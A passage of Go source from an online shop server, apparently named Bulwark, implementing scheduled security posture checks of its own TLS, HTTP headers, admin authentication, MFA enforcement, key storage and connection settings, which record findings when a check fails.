package app

import (
	"context"
	"crypto/rand"
	"crypto/subtle"
	"crypto/tls"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/bulwark-shop/bulwark/internal/access"
	"github.com/bulwark-shop/bulwark/internal/audit"
	"github.com/bulwark-shop/bulwark/internal/backup"
	"github.com/bulwark-shop/bulwark/internal/config"
	"github.com/bulwark-shop/bulwark/internal/edge"
	"github.com/bulwark-shop/bulwark/internal/finding"
	"github.com/bulwark-shop/bulwark/internal/httpapi"
	"github.com/bulwark-shop/bulwark/internal/id"
	"github.com/bulwark-shop/bulwark/internal/inventory"
	"github.com/bulwark-shop/bulwark/internal/posture"
	"github.com/bulwark-shop/bulwark/internal/store"
	"github.com/bulwark-shop/bulwark/internal/waf"
	"github.com/bulwark-shop/bulwark/internal/webhook"
)

// Posture (issue 15, "Posture"): the checks of package posture, probed
// against this process and what it listens on, run every posture-interval
// by each instance and on demand (bulwark posture, the API). A run is kept
// in the history; a failing check raises (or adds to) a finding naming its
// remedy, a check that passes again resolves it, and a standard whose
// score fell since the last run raises a finding of its own, which alerts
// at the default alert-severity.

// postureProbeTimeout bounds one check (the audit log's verification is
// the longest: a few seconds per million records).
const postureProbeTimeout = 30 * time.Second

// postureKeep is how long posture runs are kept.
const postureKeep = 366 * 24 * time.Hour

// SelfScanHeader carries the token that marks the self-scan's requests:
// the server does not report them to threat detection (an hourly replay
// of attacks from the loopback would otherwise raise a WAF probe finding
// against the shop itself). The token is random per process and compared
// in constant time, and only requests from a loopback peer may carry it.
const SelfScanHeader = "Bulwark-Self-Scan"

// postureState is the app's posture: the runner, the process's listeners
// once it serves, and the self-scan token.
type postureState struct {
	runner *posture.Runner
	mu     sync.Mutex // one run at a time per process
	token  string

	lmu       sync.Mutex
	listeners []posture.Listener // nil until Serve
}

func newSelfScanToken() string {
	b := make([]byte, 16)
	_, _ = rand.Read(b) // crypto/rand.Read never fails
	return hex.EncodeToString(b)
}

// isSelfScan reports whether r is this process's self-scan.
func (p *postureState) isSelfScan(r *http.Request) bool {
	t := r.Header.Get(SelfScanHeader)
	if t == "" || p.token == "" {
		return false
	}
	host, _, err := net.SplitHostPort(r.RemoteAddr)
	if ip := net.ParseIP(host); err != nil || ip == nil || !ip.IsLoopback() {
		return false
	}
	return subtle.ConstantTimeCompare([]byte(t), []byte(p.token)) == 1
}

// usePosture builds the posture runner over a's probes.
func (a *App) usePosture() error {
	a.posture = &postureState{token: newSelfScanToken()}
	// A baseline that cannot be read is refused at the start, not found
	// an hour later.
	if a.cfg.SettingsBaseline != "" {
		if _, err := readBaseline(a.cfg.SettingsBaseline); err != nil {
			return err
		}
	}
	// So are backup targets and recipients that do not parse: a typo
	// would otherwise show as the first scheduled backup failing.
	if _, err := backup.ParseTargets(a.cfg.BackupTargets, a.cfg.BackupRetention); err != nil {
		return err
	}
	if _, _, err := backup.ParseRecipients(a.cfg.BackupRecipients); err != nil {
		return err
	}
	r, err := posture.NewRunner(posture.Catalog(), a.postureProbes(), postureProbeTimeout)
	if err != nil {
		return err
	}
	a.posture.runner = r
	return nil
}

// setListeners notes what the process serves on (Serve).
func (a *App) setListeners(ls Listeners) {
	var out []posture.Listener
	out = append(out, posture.Listener{Name: "api", Addr: ls.API.Addr().String(), TLS: a.tls != nil, Serves: "the HTTP API"})
	if ls.Redirect != nil {
		out = append(out, posture.Listener{Name: "redirect", Addr: ls.Redirect.Addr().String(), Serves: "redirects to HTTPS and ACME http-01", RedirectOnly: true})
	}
	if ls.Metrics != nil {
		out = append(out, posture.Listener{Name: "metrics", Addr: ls.Metrics.Addr().String(), Serves: "Prometheus /metrics"})
	}
	a.posture.lmu.Lock()
	a.posture.listeners = out
	a.posture.lmu.Unlock()
}

// Listeners returns the process's listeners: those it serves on, or (in a
// command, which serves nothing) those the settings name, where the
// running server listens.
func (a *App) ListenerInventory() []posture.Listener {
	a.posture.lmu.Lock()
	ls := a.posture.listeners
	a.posture.lmu.Unlock()
	if ls != nil {
		return ls
	}
	out := []posture.Listener{{Name: "api", Addr: a.cfg.Listen, TLS: a.cfg.TLS(), Serves: "the HTTP API"}}
	if a.cfg.HTTPRedirectListen != "" && a.cfg.TLS() {
		out = append(out, posture.Listener{Name: "redirect", Addr: a.cfg.HTTPRedirectListen, Serves: "redirects to HTTPS and ACME http-01", RedirectOnly: true})
	}
	if a.cfg.MetricsListen != "" {
		out = append(out, posture.Listener{Name: "metrics", Addr: a.cfg.MetricsListen, Serves: "Prometheus /metrics"})
	}
	return out
}

func (a *App) listener(name string) (posture.Listener, bool) {
	for _, l := range a.ListenerInventory() {
		if l.Name == name {
			return l, true
		}
	}
	return posture.Listener{}, false
}

// RunPosture runs the checks now, keeps the run, and raises, adds to or
// resolves their findings; a standard whose score fell since the last run
// raises a finding too. One run at a time per process.
func (a *App) RunPosture(ctx context.Context) (posture.Report, error) {
	a.posture.mu.Lock()
	defer a.posture.mu.Unlock()
	prev, err := a.DB.LatestPostureRun(ctx)
	hasPrev := err == nil
	if err != nil && !errors.Is(err, store.ErrNoPostureRun) {
		return posture.Report{}, err
	}
	rep := a.posture.runner.Run(ctx, a.now())
	// The findings first, the run last: a run in the history is one whose
	// findings are all recorded.
	for _, c := range rep.Checks {
		subject := finding.Subject{Kind: finding.Check, ID: c.ID}
		switch c.Status {
		case posture.Fail:
			err = a.observe(ctx, finding.Observation{Type: finding.PostureCheckFailed, Severity: c.Severity, Subject: subject, At: rep.RunAt,
				Evidence: map[string]string{"title": c.Title, "detail": c.Detail, "remedy": c.Remedy, "maps_to": strings.Join(c.MapsTo, ", ")}})
		case posture.Pass:
			err = a.resolveFindings(ctx, finding.PostureCheckFailed, subject, "the check passes again")
		}
		if err != nil {
			return rep, err
		}
	}
	if hasPrev {
		for _, d := range posture.Drops(prev, rep) {
			if err := a.observe(ctx, finding.Observation{Type: finding.PostureScoreDropped, Severity: 70,
				Subject: finding.Subject{Kind: finding.Standard, ID: d.Standard}, At: rep.RunAt,
				Evidence: map[string]string{"from": fmt.Sprintf("%.3f", d.From), "to": fmt.Sprintf("%.3f", d.To), "failed": strings.Join(d.Failed, ", ")}}); err != nil {
				return rep, err
			}
		}
	}
	return rep, a.DB.SavePostureRun(ctx, id.New(id.PostureRun), a.instance, rep, postureKeep)
}

// observe records o as threat detection's findings are (raising alerts
// the same way: the finding.raised event with it, alert mail after).
func (a *App) observe(ctx context.Context, o finding.Observation) error {
	o.AlertFrom = a.cfg.AlertSeverity
	f, raised, err := a.DB.ObserveFinding(ctx, o)
	if err != nil {
		return fmt.Errorf("record the %s finding about %s: %w", o.Type, o.Subject, err)
	}
	if raised && a.alert != nil && f.Alerts(a.cfg.AlertSeverity) {
		a.alert(ctx, f)
	}
	return nil
}

// resolveFindings resolves the open findings of typ about subject: the
// condition they report is gone (a system act, recorded with why).
func (a *App) resolveFindings(ctx context.Context, typ finding.Type, subject finding.Subject, why string) error {
	for _, st := range []finding.Status{finding.Active, finding.Suppressed} {
		open, _, err := a.DB.Findings(ctx, finding.Query{Type: typ, Subject: subject, Status: st, Limit: 10})
		if err != nil {
			return fmt.Errorf("list findings about %s: %w", subject, err)
		}
		for _, f := range open {
			rec := audit.Record{Actor: a.instance, Action: "finding.resolve", Target: f.ID, Outcome: audit.Success, Detail: why}
			if _, err := a.DB.SetFindingStatus(ctx, f.ID, finding.Resolved, a.now(), rec); err != nil {
				return fmt.Errorf("resolve finding %s: %w", f.ID, err)
			}
		}
	}
	return nil
}

// LatestPosture returns the newest run (of any instance), running the
// checks when there is none yet.
func (a *App) LatestPosture(ctx context.Context) (posture.Report, error) {
	rep, err := a.DB.LatestPostureRun(ctx)
	if errors.Is(err, store.ErrNoPostureRun) {
		return a.RunPosture(ctx)
	}
	return rep, err
}

// PostureHistory returns the newest runs' summaries.
func (a *App) PostureHistory(ctx context.Context, limit int) ([]posture.Summary, error) {
	return a.DB.PostureHistory(ctx, limit)
}

// runPosture runs the checks every posture-interval, the first soon after
// the start, until ctx ends; 0 turns the schedule off.
func (a *App) runPosture(ctx context.Context) {
	every := a.cfg.PostureInterval
	if every <= 0 {
		return
	}
	wait := min(every, postureFirstRun)
	for {
		select {
		case <-ctx.Done():
			return
		case <-time.After(wait):
		}
		if _, err := a.RunPosture(ctx); err != nil && ctx.Err() == nil {
			a.backgroundFailed("posture: a scheduled run failed", err)
		}
		wait = every
	}
}

// postureFirstRun is how long after the start the first scheduled run
// comes (at most): the listeners serve and the first checkpoint is signed
// by then, and a server that is started and stopped at once (a test, a
// migration check) makes no run. The API runs the checks on demand until
// the first run exists.
const postureFirstRun = time.Minute

// postureProbes returns a probe per catalog check.
func (a *App) postureProbes() map[string]posture.Probe {
	cfg := a.cfg
	pass := func(format string, args ...any) (posture.Status, string) {
		return posture.Pass, fmt.Sprintf(format, args...)
	}
	fail := func(format string, args ...any) (posture.Status, string) {
		return posture.Fail, fmt.Sprintf(format, args...)
	}
	noData := func(format string, args ...any) (posture.Status, string) {
		return posture.NoData, fmt.Sprintf(format, args...)
	}
	check := func(ok bool, yes, no string, args ...any) (posture.Status, string) {
		if ok {
			return pass(yes, args...)
		}
		return fail(no, args...)
	}
	api := func() posture.Listener { l, _ := a.listener("api"); return l }
	publicAPI := func() bool { return !config.IsLoopback(api().Addr) }
	// probeTLS handshakes with the API with conf's limits.
	probeTLS := func(ctx context.Context, conf *tls.Config) (tls.ConnectionState, error) {
		return dialTLS(ctx, dialAddr(api().Addr), conf)
	}
	get := func(ctx context.Context, method, path string, hdr http.Header) (*http.Response, error) {
		return a.selfRequest(ctx, method, path, hdr, nil)
	}

	return map[string]posture.Probe{
		"tls.api": func(ctx context.Context) (posture.Status, string) {
			l := api()
			if !l.TLS {
				return check(config.IsLoopback(l.Addr), "plain HTTP on the loopback address %[1]s only", "plain HTTP on %[1]s, which is not a loopback address", l.Addr)
			}
			st, err := probeTLS(ctx, &tls.Config{})
			if err != nil {
				return unreachable(l.Addr, err)
			}
			return pass("TLS %s on %s", tls.VersionName(st.Version), l.Addr)
		},
		"tls.version": func(ctx context.Context) (posture.Status, string) {
			if !api().TLS {
				return noData("the API serves no TLS")
			}
			_, err := probeTLS(ctx, &tls.Config{MinVersion: tls.VersionTLS10, MaxVersion: tls.VersionTLS11})
			if err == nil {
				return fail("the API accepted a TLS 1.1 handshake")
			}
			if refused(err) {
				return unreachable(api().Addr, err)
			}
			return pass("a TLS 1.1 handshake was refused (tls-min-version %s)", cfg.TLSMinVersion)
		},
		"tls.ciphers": func(ctx context.Context) (posture.Status, string) {
			if !api().TLS {
				return noData("the API serves no TLS")
			}
			// Offer only suites without forward secrecy or with CBC: a
			// handshake that succeeds is a weak suite accepted.
			weak := []uint16{tls.TLS_RSA_WITH_AES_128_CBC_SHA, tls.TLS_RSA_WITH_AES_256_CBC_SHA, tls.TLS_RSA_WITH_AES_128_GCM_SHA256,
				tls.TLS_RSA_WITH_AES_256_GCM_SHA384, tls.TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA, tls.TLS_ECDHE_ECDSA_WITH_AES_128_CBC_SHA,
				tls.TLS_ECDHE_RSA_WITH_AES_256_CBC_SHA, tls.TLS_ECDHE_ECDSA_WITH_AES_256_CBC_SHA}
			st, err := probeTLS(ctx, &tls.Config{MaxVersion: tls.VersionTLS12, CipherSuites: weak})
			if err == nil {
				return fail("the API accepted %s", tls.CipherSuiteName(st.CipherSuite))
			}
			if refused(err) {
				return unreachable(api().Addr, err)
			}
			return pass("TLS 1.2 handshakes offering only CBC or RSA key exchange suites were refused")
		},
		"tls.certificate": func(ctx context.Context) (posture.Status, string) {
			if !api().TLS {
				return noData("the API serves no TLS")
			}
			st, err := probeTLS(ctx, &tls.Config{})
			if err != nil {
				return unreachable(api().Addr, err)
			}
			if len(st.PeerCertificates) == 0 {
				return fail("the API presented no certificate")
			}
			leaf := st.PeerCertificates[0]
			left := leaf.NotAfter.Sub(a.now())
			return check(left >= 14*24*time.Hour, "the certificate for %[1]v expires %[2]s", "the certificate for %[1]v expires %[2]s, in less than 14 days",
				leaf.DNSNames, leaf.NotAfter.UTC().Format(time.DateOnly))
		},
		"tls.redirect": func(ctx context.Context) (posture.Status, string) {
			l, ok := a.listener("redirect")
			if !ok {
				return noData("no plain-HTTP listener (http-redirect-listen)")
			}
			req, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+dialAddr(l.Addr)+"/api/v1/products", nil)
			if err != nil {
				return noData("%v", err)
			}
			resp, err := selfClient(nil).Do(req)
			if err != nil {
				return unreachable(l.Addr, err)
			}
			resp.Body.Close()
			loc := resp.Header.Get("Location")
			return check(resp.StatusCode/100 == 3 && strings.HasPrefix(loc, "https://"), "%[1]s answers %[2]d to %[3]s", "%[1]s answers %[2]d (Location %[3]q), not a redirect to https",
				l.Addr, resp.StatusCode, loc)
		},
		"http.hsts": func(ctx context.Context) (posture.Status, string) {
			if !api().TLS {
				return noData("the API serves no TLS")
			}
			resp, err := get(ctx, http.MethodGet, "/healthz", nil)
			if err != nil {
				return unreachable(api().Addr, err)
			}
			resp.Body.Close()
			h := resp.Header.Get("Strict-Transport-Security")
			return check(strings.Contains(h, "max-age="), "Strict-Transport-Security: %s", "no Strict-Transport-Security header%s", h)
		},
		"http.headers": func(ctx context.Context) (posture.Status, string) {
			resp, err := get(ctx, http.MethodGet, "/api/v1/auth/me", nil)
			if err != nil {
				return unreachable(api().Addr, err)
			}
			resp.Body.Close()
			var missing []string
			if resp.Header.Get("X-Content-Type-Options") != "nosniff" {
				missing = append(missing, "X-Content-Type-Options: nosniff")
			}
			if !strings.Contains(resp.Header.Get("Content-Security-Policy"), "frame-ancestors") {
				missing = append(missing, "Content-Security-Policy with frame-ancestors")
			}
			if !strings.Contains(resp.Header.Get("Cache-Control"), "no-store") {
				missing = append(missing, "Cache-Control: no-store")
			}
			return check(len(missing) == 0, "nosniff, frame-ancestors and no-store present%[1]s", "missing: %[1]s", strings.Join(missing, ", "))
		},
		"http.trace": func(ctx context.Context) (posture.Status, string) {
			resp, err := get(ctx, http.MethodTrace, "/api/v1/products", nil)
			if err != nil {
				return unreachable(api().Addr, err)
			}
			resp.Body.Close()
			return check(resp.StatusCode >= 400, "TRACE answered %d", "TRACE answered %d", resp.StatusCode)
		},
		"http.version-disclosure": func(ctx context.Context) (posture.Status, string) {
			resp, err := get(ctx, http.MethodGet, "/healthz", nil)
			if err != nil {
				return unreachable(api().Addr, err)
			}
			resp.Body.Close()
			var named []string
			for _, h := range []string{"Server", "X-Powered-By", "X-AspNet-Version"} {
				if v := resp.Header.Get(h); v != "" {
					named = append(named, h+": "+v)
				}
			}
			return check(len(named) == 0, "no Server or X-Powered-By header%s", "answers name their software: %s", strings.Join(named, ", "))
		},
		"http.admin-auth": func(ctx context.Context) (posture.Status, string) {
			resp, err := get(ctx, http.MethodGet, "/api/v1/admin/orders", nil)
			if err != nil {
				return unreachable(api().Addr, err)
			}
			resp.Body.Close()
			return check(resp.StatusCode == http.StatusUnauthorized || resp.StatusCode == http.StatusForbidden,
				"GET /api/v1/admin/orders without credentials answered %d", "GET /api/v1/admin/orders without credentials answered %d", resp.StatusCode)
		},
		"http.self-scan": func(ctx context.Context) (posture.Status, string) {
			var let []string
			for _, atk := range selfScanCorpus {
				hdr := http.Header{SelfScanHeader: {a.posture.token}}
				var body io.Reader
				if atk.body != "" {
					body = strings.NewReader(atk.body)
					hdr.Set("Content-Type", "application/json")
				}
				resp, err := a.selfRequest(ctx, atk.method, atk.path, hdr, body)
				if err != nil {
					return unreachable(api().Addr, err)
				}
				resp.Body.Close()
				if !atk.refused(resp.StatusCode) {
					let = append(let, fmt.Sprintf("%s (%d)", atk.name, resp.StatusCode))
				}
			}
			return check(len(let) == 0, "%[1]d attacks replayed, every one refused%[2]s", "%[1]d attacks replayed; not refused: %[2]s", len(selfScanCorpus), strings.Join(let, ", "))
		},
		"http.cors": func(ctx context.Context) (posture.Status, string) {
			var bad []string
			for _, o := range cfg.Origins() {
				if o == "*" || !strings.HasPrefix(o, "https://") && !loopbackOrigin(o) {
					bad = append(bad, o)
				}
			}
			if len(bad) > 0 {
				return fail("cors-origins allows %s", strings.Join(bad, ", "))
			}
			hdr := http.Header{"Origin": {"https://posture-probe.invalid"}, "Access-Control-Request-Method": {"POST"}}
			resp, err := get(ctx, http.MethodOptions, "/api/v1/auth/login", hdr)
			if err != nil {
				return unreachable(api().Addr, err)
			}
			resp.Body.Close()
			allowed := resp.Header.Get("Access-Control-Allow-Origin")
			return check(allowed == "", "%[1]d origins listed; an unlisted origin's preflight got no Access-Control-Allow-Origin%[2]s",
				"an unlisted origin's preflight was allowed (%[2]s)", len(cfg.Origins()), allowed)
		},
		"http.body-limit": func(context.Context) (posture.Status, string) {
			return check(cfg.MaxBodyBytes > 0 && cfg.MaxBodyBytes <= 10<<20, "max-body-bytes %d", "max-body-bytes %d", cfg.MaxBodyBytes)
		},
		"http.slow-clients": func(context.Context) (posture.Status, string) {
			return check(cfg.ReadHeaderTimeout > 0 && cfg.ReadHeaderTimeout <= 30*time.Second, "read-header-timeout %s", "read-header-timeout %s", cfg.ReadHeaderTimeout)
		},
		"waf.mode": func(context.Context) (posture.Status, string) {
			return check(cfg.WAF == waf.Block, "waf %s", "waf %s", cfg.WAF)
		},
		"waf.sensitivity": func(context.Context) (posture.Status, string) {
			return check(cfg.WAFParanoia >= 1 && cfg.WAFInboundThreshold <= 10, "paranoia %d, inbound threshold %d", "paranoia %d, inbound threshold %d",
				cfg.WAFParanoia, cfg.WAFInboundThreshold)
		},
		"ratelimit.on": func(context.Context) (posture.Status, string) {
			return check(cfg.RateLimits, "rate limits on", "rate-limits is off")
		},
		"ratelimit.auth": func(context.Context) (posture.Status, string) {
			if !cfg.RateLimits {
				return fail("rate-limits is off")
			}
			l := cfg.RateLimit.Auth
			perMinute := float64(l.Count) * float64(time.Minute) / float64(l.Period)
			return check(l.Count > 0 && perMinute <= 60, "%[1]d per %[2]s (%.0[3]f a minute)", "%[1]d per %[2]s (%.0[3]f a minute)", l.Count, l.Period, perMinute)
		},
		"proxies.narrow": func(context.Context) (posture.Status, string) {
			prefixes, err := edge.ParsePrefixes(cfg.TrustedProxies)
			if err != nil {
				return fail("trusted-proxies: %v", err)
			}
			if len(prefixes) == 0 {
				return pass("no trusted proxies")
			}
			var wide []string
			for _, p := range prefixes {
				if (p.Addr().Is4() && p.Bits() < 24) || (!p.Addr().Is4() && p.Bits() < 64) {
					wide = append(wide, p.String())
				}
			}
			return check(len(wide) == 0, "%[1]d trusted proxy ranges, none wider than /24 or /64%[2]s", "too wide: %[2]s", len(prefixes), strings.Join(wide, ", "))
		},
		"listeners.metrics": func(context.Context) (posture.Status, string) {
			l, ok := a.listener("metrics")
			if !ok {
				return pass("no metrics listener")
			}
			return check(config.IsLoopback(l.Addr), "metrics on %s", "metrics on %s, which is not a loopback address", l.Addr)
		},
		"listeners.inventory": func(context.Context) (posture.Status, string) {
			var all, open []string
			for _, l := range a.ListenerInventory() {
				kind := "plain HTTP"
				if l.TLS {
					kind = "TLS"
				}
				all = append(all, fmt.Sprintf("%s %s (%s, %s)", l.Name, l.Addr, kind, l.Serves))
				if !l.TLS && !l.RedirectOnly && !config.IsLoopback(l.Addr) {
					open = append(open, l.Name+" "+l.Addr)
				}
			}
			if len(open) > 0 {
				return fail("plain HTTP beyond the loopback: %s; listeners: %s", strings.Join(open, ", "), strings.Join(all, "; "))
			}
			return pass("listeners: %s", strings.Join(all, "; "))
		},
		"admin.network": func(context.Context) (posture.Status, string) {
			if !publicAPI() {
				return pass("the API listens on a loopback address only")
			}
			return check(cfg.AdminIPAllow != "", "admin-ip-allow %[1]s", "the API listens on %[2]s and staff routes take any address%[1]s", cfg.AdminIPAllow, api().Addr)
		},
		"staff.mfa": func(ctx context.Context) (posture.Status, string) {
			staff, err := a.DB.StaffAccounts(ctx)
			if err != nil {
				return noData("%v", err)
			}
			var without []string
			for _, s := range staff {
				if !s.MFA {
					without = append(without, s.ID)
				}
			}
			if len(staff) == 0 {
				return noData("no staff accounts")
			}
			return check(len(without) == 0, "%[1]d staff accounts, all with a second factor%[2]s", "%[1]d staff accounts; without a second factor: %[2]s", len(staff), listOf(without))
		},
		"staff.mfa-enforced": func(ctx context.Context) (posture.Status, string) {
			// A transient staff account without a second factor calls a
			// staff route through the listener, by bearer token and by
			// cookie, as a stolen password would.
			var answers []string
			var let, unreached bool
			err := a.Identity.ProbeStaffGate(ctx, func(ctx context.Context, token string) error {
				for _, hdr := range []http.Header{
					{"Authorization": {"Bearer " + token}},
					{"Cookie": {httpapi.SessionCookie + "=" + token}},
				} {
					hdr.Set(SelfScanHeader, a.posture.token)
					resp, err := get(ctx, http.MethodGet, "/api/v1/admin/orders", hdr)
					if err != nil {
						return err
					}
					var p struct {
						Code string `json:"code"`
					}
					_ = json.NewDecoder(io.LimitReader(resp.Body, 64<<10)).Decode(&p)
					resp.Body.Close()
					answers = append(answers, strings.TrimSpace(fmt.Sprintf("%d %s", resp.StatusCode, p.Code)))
					switch {
					case resp.StatusCode == http.StatusForbidden && p.Code == access.CodeMFAEnrollmentRequired:
					case resp.StatusCode < 300:
						let = true
					default: // refused before the gate (admin-ip-allow, a block): no verdict on it
						unreached = true
					}
				}
				return nil
			})
			if err != nil {
				return noData("%v", err)
			}
			if unreached && !let {
				return noData("the staff route refused the probe before its gate: %s", strings.Join(answers, ", "))
			}
			return check(!let, "a staff session without a second factor got %[1]s on GET /api/v1/admin/orders (by token, by cookie)",
				"a staff session without a second factor got %[1]s on GET /api/v1/admin/orders (by token, by cookie)", strings.Join(answers, ", "))
		},
		"staff.admins": func(ctx context.Context) (posture.Status, string) {
			staff, err := a.DB.StaffAccounts(ctx)
			if err != nil {
				return noData("%v", err)
			}
			n := 0
			for _, s := range staff {
				if slices.Contains(s.Roles, string(access.Admin)) {
					n++
				}
			}
			return check(n >= 1 && n <= 5, "%d admins", "%d admins", n)
		},
		"staff.inactive": func(ctx context.Context) (posture.Status, string) {
			staff, err := a.DB.StaffAccounts(ctx)
			if err != nil {
				return noData("%v", err)
			}
			if len(staff) == 0 {
				return noData("no staff accounts")
			}
			var idle []string
			for _, s := range staff {
				if a.now().Sub(s.LastActive) > 90*24*time.Hour {
					idle = append(idle, s.ID)
				}
			}
			return check(len(idle) == 0, "%[1]d staff accounts, each active within 90 days%[2]s", "unused for 90 days: %[2]s", len(staff), listOf(idle))
		},
		"apikeys.unused": func(ctx context.Context) (posture.Status, string) {
			keys, err := a.liveKeys(ctx)
			if err != nil || len(keys) == 0 {
				return noData("no API keys%s", errText(err))
			}
			var stale []string
			for _, k := range keys {
				last := k.LastUsedAt
				if last.IsZero() {
					last = k.CreatedAt
				}
				if a.now().Sub(last) > 90*24*time.Hour {
					stale = append(stale, k.ID)
				}
			}
			return check(len(stale) == 0, "%[1]d API keys, each used within 90 days%[2]s", "unused for 90 days: %[2]s", len(keys), listOf(stale))
		},
		"apikeys.expiry": func(ctx context.Context) (posture.Status, string) {
			keys, err := a.liveKeys(ctx)
			if err != nil || len(keys) == 0 {
				return noData("no API keys%s", errText(err))
			}
			var soon []string
			for _, k := range keys {
				if !k.ExpiresAt.IsZero() && k.ExpiresAt.Sub(a.now()) < 14*24*time.Hour {
					soon = append(soon, k.ID+" ("+k.ExpiresAt.Format(time.DateOnly)+")")
				}
			}
			return check(len(soon) == 0, "%[1]d API keys, none expiring within 14 days%[2]s", "expiring within 14 days: %[2]s", len(keys), listOf(soon))
		},
		"session.staff-idle": func(context.Context) (posture.Status, string) {
			return check(cfg.StaffSessionIdle <= 15*time.Minute, "staff-session-idle-timeout %s", "staff-session-idle-timeout %s", cfg.StaffSessionIdle)
		},
		"session.staff-absolute": func(context.Context) (posture.Status, string) {
			return check(cfg.StaffSessionAbsolute <= 12*time.Hour, "staff-session-absolute-timeout %s", "staff-session-absolute-timeout %s", cfg.StaffSessionAbsolute)
		},
		"session.customer": func(context.Context) (posture.Status, string) {
			return check(cfg.SessionIdle <= 30*24*time.Hour && cfg.SessionAbsolute <= 90*24*time.Hour,
				"session-idle-timeout %s, session-absolute-timeout %s", "session-idle-timeout %s, session-absolute-timeout %s", cfg.SessionIdle, cfg.SessionAbsolute)
		},
		"oidc.issuer": func(context.Context) (posture.Status, string) {
			if cfg.OIDCIssuer == "" {
				return noData("social sign-in is off")
			}
			return check(strings.HasPrefix(cfg.OIDCIssuer, "https://"), "oidc-issuer %s", "oidc-issuer %s is not https", cfg.OIDCIssuer)
		},
		"kek.hsm": func(context.Context) (posture.Status, string) {
			return check(cfg.KEKPKCS11Module != "", "the KEK is in the HSM token %[1]q", "the KEK is %[2]s", cfg.KEKPKCS11Token, a.keyring.KEKStatus().Source)
		},
		"kek.file": func(context.Context) (posture.Status, string) {
			var path string
			switch {
			case cfg.KEKPKCS11Module != "":
				return noData("the KEK is in an HSM")
			case cfg.KEK == "":
				path = filepath.Join(cfg.DataDir, "kek-keyset.json")
			case os.Getenv("BULWARK_KEK_FILE") != "":
				path = os.Getenv("BULWARK_KEK_FILE")
			default:
				return noData("the KEK was given directly, not as a file this process can name")
			}
			return fileClosed(path)
		},
		"keys.rotation": func(context.Context) (posture.Status, string) {
			names, err := a.keyring.DataKeysets()
			if err != nil {
				return noData("%v", err)
			}
			_, sts, err := a.keyring.Status(names...)
			if err != nil {
				return noData("%v", err)
			}
			var old []string
			for _, st := range sts {
				for _, k := range st.KeyList {
					if k.Primary && !k.Created.IsZero() && a.now().Sub(k.Created) > 365*24*time.Hour {
						old = append(old, fmt.Sprintf("%s (since %s)", st.Name, k.Created.Format(time.DateOnly)))
					}
				}
			}
			return check(len(old) == 0, "%[1]d keysets, every primary key younger than a year%[2]s", "primary keys older than a year: %[2]s", len(sts), strings.Join(old, ", "))
		},
		"secrets.files": func(context.Context) (posture.Status, string) {
			var inEnv []string
			for _, s := range config.Settings() {
				if s.Secret && os.Getenv(s.Env()) != "" {
					inEnv = append(inEnv, s.Env())
				}
			}
			return check(len(inEnv) == 0, "no secret in the environment%s", "secrets in the environment (readable by the process's user in /proc): %s", strings.Join(inEnv, ", "))
		},
		"data-dir.permissions": func(context.Context) (posture.Status, string) {
			return dirClosed(cfg.DataDir)
		},
		"config.permissions": func(context.Context) (posture.Status, string) {
			if cfg.ConfigFile == "" {
				return noData("no settings file")
			}
			info, err := os.Stat(cfg.ConfigFile)
			if err != nil {
				return noData("%v", err)
			}
			return check(info.Mode().Perm()&0o022 == 0 && info.Mode().Perm()&0o004 == 0, "%[1]s is %[2]s", "%[1]s is %[2]s: other users can read or change it", cfg.ConfigFile, info.Mode().Perm())
		},
		"database.tls": func(context.Context) (posture.Status, string) {
			if cfg.DatabaseURL == "" && cfg.VaultDatabaseURL == "" {
				return noData("SQLite in the data directory: no connection")
			}
			var plain []string
			for _, u := range []string{cfg.DatabaseURL, cfg.VaultDatabaseURL} {
				if u != "" && !postgresEncrypted(u) {
					plain = append(plain, redactedHost(u))
				}
			}
			return check(len(plain) == 0, "every PostgreSQL connection is TLS or local%s", "PostgreSQL without TLS to %s", strings.Join(plain, ", "))
		},
		"redis.tls": func(context.Context) (posture.Status, string) {
			if cfg.RedisURL == "" {
				return noData("no Redis")
			}
			u, err := url.Parse(cfg.RedisURL)
			if err != nil {
				return noData("redis-url does not parse")
			}
			return check(u.Scheme == "rediss" || hostLocal(u.Hostname()), "Redis at %[1]s over %[2]s", "Redis at %[1]s over %[2]s, unencrypted", u.Host, u.Scheme)
		},
		"smtp.tls": func(context.Context) (posture.Status, string) {
			if cfg.SMTPURL == "" {
				return noData("mail is written to the outbox")
			}
			u, err := url.Parse(cfg.SMTPURL)
			if err != nil {
				return noData("smtp-url does not parse")
			}
			// Bulwark refuses an smtp:// server that does not offer
			// STARTTLS; smtps:// is TLS from the start.
			return pass("%s to %s (STARTTLS required)", u.Scheme, u.Host)
		},
		"webhooks.https": func(ctx context.Context) (posture.Status, string) {
			eps, err := a.DB.Webhooks(ctx)
			if err != nil {
				return noData("%v", err)
			}
			if len(eps) == 0 {
				return noData("no webhook endpoints")
			}
			var plain []string
			for _, e := range eps {
				if !strings.HasPrefix(e.URL, "https://") {
					plain = append(plain, e.ID)
				}
			}
			return check(len(plain) == 0, "%[1]d endpoints, all https%[2]s", "not https: %[2]s", len(eps), strings.Join(plain, ", "))
		},
		"payment.live": func(context.Context) (posture.Status, string) {
			if !publicAPI() {
				return pass("the API listens on a loopback address only (payment-gateway %s)", cfg.PaymentGateway)
			}
			return check(cfg.PaymentGateway != config.PaymentSimulator, "payment-gateway %s", "payment-gateway %s on a public address", cfg.PaymentGateway)
		},
		"settings.baseline": func(context.Context) (posture.Status, string) {
			if cfg.SettingsBaseline == "" {
				return noData("no settings baseline declared (settings-baseline)")
			}
			base, err := readBaseline(cfg.SettingsBaseline)
			if err != nil {
				return fail("%v", err)
			}
			drift := config.Drift(cfg.Effective, base)
			return check(len(drift) == 0, "the %[1]d settings of %[2]s hold%[3]s", "%[3]s differ from %[2]s", len(base), cfg.SettingsBaseline, listOf(drift))
		},
		"log.level": func(context.Context) (posture.Status, string) {
			return check(cfg.LogLevel != "debug", "log-level %s", "log-level %s", cfg.LogLevel)
		},
		"audit.verify": func(ctx context.Context) (posture.Status, string) {
			n := a.AuditLog.Notary
			cps, err := n.ReadCheckpoints(cfg.AuditCheckpointDir())
			if err != nil {
				return fail("the checkpoints: %v", err)
			}
			tree, err := a.DB.AuditTree(ctx)
			if err != nil {
				return noData("%v", err)
			}
			rep, err := audit.VerifyLog(ctx, a.DB, cps, tree, a.DB.AuditNodes)
			if err != nil {
				if ctx.Err() != nil {
